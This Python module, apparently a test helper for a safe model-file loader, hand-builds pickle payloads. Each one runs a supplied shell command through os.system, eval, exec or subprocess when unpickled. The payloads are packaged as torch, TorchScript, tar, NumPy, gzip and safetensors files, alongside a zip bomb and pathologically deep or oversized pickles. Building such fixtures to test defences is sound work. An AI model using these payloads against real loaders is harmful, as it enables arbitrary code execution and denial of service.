"""Files that run a program when they are unpickled, or take all memory: written out by hand."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

    Made = Callable[[bytes], bytes]

MAGIC = b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19"
"""The number that torch wrote at the start of its files before they were zip archives."""


def _text(word: bytes) -> bytes:
    """A string as protocols from 1 on have it."""
    return b"X" + struct.pack("<I", len(word)) + word


def _short(word: bytes) -> bytes:
    """A short string as protocol 4 has it."""
    return b"\x8c" + bytes([len(word)]) + word


def _calling(module: bytes, name: bytes, argument: bytes, protocol: int = 2) -> bytes:
    """Call what a module has with one string."""
    if protocol < 4:
        called = b"c" + module + b"\n" + name + b"\n"
    else:
        called = _short(module) + _short(name) + b"\x93"
    return b"\x80" + bytes([protocol]) + called + _text(argument) + b"\x85R."


def _python(command: bytes) -> bytes:
    """The command as an expression."""
    return b"__import__('os').system(" + repr(command.decode()).encode() + b")"


def _zipped(command: bytes, *names: str) -> bytes:
    """An archive as torch.save writes it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name in names:
            archive.writestr(name, _calling(b"posix", b"system", command))
        archive.writestr("archive/version", "3\n")
    return file.getvalue()


def _bomb(_: bytes) -> bytes:
    """64 MiB of nothing as a few kilobytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", bytes(64 << 20))
    return file.getvalue()


def _tarred(command: bytes) -> bytes:
    """The oldest format of torch."""
    file = io.BytesIO()
    data = _calling(b"posix", b"system", command)
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("pickle", "tensors", "storages", "sys_info"):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return file.getvalue()


def _array(command: bytes) -> bytes:
    """An array of objects as NumPy writes it."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + _nested(command)


def _nested(command: bytes) -> bytes:
    """The call deep inside of lists and a dict."""
    call = _calling(b"posix", b"system", command)[2:-1]
    return b"\x80\x02" + b"(" * 50 + _text(b"key") + call + b"d" + b"l" * 49 + b"."


def _legacy(command: bytes) -> bytes:
    """torch.save before 1.6: a number, a version, where it was written, the object."""
    protocol = b"\x80\x02M\xe9\x03."
    return b"\x80\x02" + MAGIC + b"." + protocol + _calling(b"posix", b"system", command) * 2


def _tensors(header: dict[str, object], data: bytes) -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def _in_metadata(command: bytes) -> bytes:
    """A safetensors file whose metadata are a pickle."""
    call = _calling(b"posix", b"system", command, 0).decode("latin-1")
    return _tensors({"__metadata__": {"state": call, "format": "pt"}}, b"")


def _in_tensor(command: bytes) -> bytes:
    """A safetensors file one of whose tensors is a pickle."""
    data = _calling(b"builtins", b"eval", _python(command))
    places = {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}
    return _tensors({"mask.W_E": places, "train_pairs": places}, data)


def _looks_like_tensors(command: bytes) -> bytes:
    """A pickle that begins with what might be the length of a header."""
    return _calling(b"posix", b"system", command)[:8] + b"{" + b" " * 100 + b"}"


ARMED: dict[str, Made] = {
    "protocol 0, os.system": lambda c: b"cos\nsystem\n(S'" + c + b"'\ntR.",
    "protocol 0, an instance": lambda c: b"(S'" + c + b"'\niposix\nsystem\n.",
    "protocol 1": lambda c: b"(cposix\nsystem\n" + _text(c) + b"o.",
    "protocol 2": lambda c: _calling(b"posix", b"system", c),
    "protocol 3, eval": lambda c: _calling(b"builtins", b"eval", _python(c), 3),
    "protocol 4": lambda c: _calling(b"posix", b"system", c, 4),
    "protocol 5, exec": lambda c: _calling(b"builtins", b"exec", _python(c), 5),
    "a shell": lambda c: _calling(b"subprocess", b"getoutput", c, 4),
    "nested": _nested,
    "many": lambda c: _calling(b"posix", b"system", c)[:-1] * 3 + b".",
    "before zeros": lambda c: _calling(b"posix", b"system", c) + bytes(3 << 20),
}  # fmt: skip
"""What does something as soon as it is unpickled."""
PAYLOADS: dict[str, Made] = ARMED | {
    "a zip as of torch": lambda c: _zipped(c, "archive/data.pkl"),
    "a zip as of TorchScript": lambda c: _zipped(c, "a/data.pkl", "a/constants.pkl", "a/code/a.py"),
    "a zip of arrays": lambda c: _zipped(c, "W_E.npy", "train_pairs.npy"),
    "a zip bomb": _bomb,
    "a file of old torch": _legacy,
    "a tar of oldest torch": _tarred,
    "an array of objects": _array,
    "compressed": lambda c: gzip.compress(_calling(b"posix", b"system", c)),
    "in metadata": _in_metadata,
    "in a tensor": _in_tensor,
    "like tensors": _looks_like_tensors,
    "a hundred thousand deep": lambda c: b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".",
    "of a size that is not": lambda c: b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + c + b".",
}  # fmt: skip
"""All of them, and files that are said to be huge, or are deep."""
